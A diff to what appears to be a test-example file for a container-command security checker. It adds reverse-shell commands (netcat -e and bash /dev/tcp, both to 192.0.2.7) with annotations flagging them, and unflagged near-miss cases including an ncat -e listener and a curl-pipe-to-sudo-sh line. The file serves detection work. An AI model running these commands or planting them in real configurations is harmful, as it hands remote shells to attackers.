@@ -56,6 +56,10 @@ export const examples = (): readonly Example[] => [
             image: registry.example/debug:1
             args: [bash, -c, "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"]
                              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ The container debug hands a shell to another machine.
+          - name: back
+            image: registry.example/debug:1
+            args: [sh, -c, 'nc 192.0.2.7 4444 -e /bin/bash']
+                           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ The container back hands a shell to another machine.
     `,
   },
   {
@@ -73,6 +77,12 @@ export const examples = (): readonly Example[] => [
           - name: wait
             image: registry.example/wait:2
             command: [bash, -c, "until (echo > /dev/tcp/db/5432); do sleep 1; done; echo 'curl x | sh'"]
+          - name: health
+            image: registry.example/health:1
+            command: [sh, -c, 'ncat -lk -p 8080 -e /scripts/health.sh']
+          - name: list
+            image: registry.example/list:1
+            command: [sh, -c, "curl -fsSL https://get.example/list | sudo sh -c 'cat > /etc/list'"]
     `,
   },
 ];
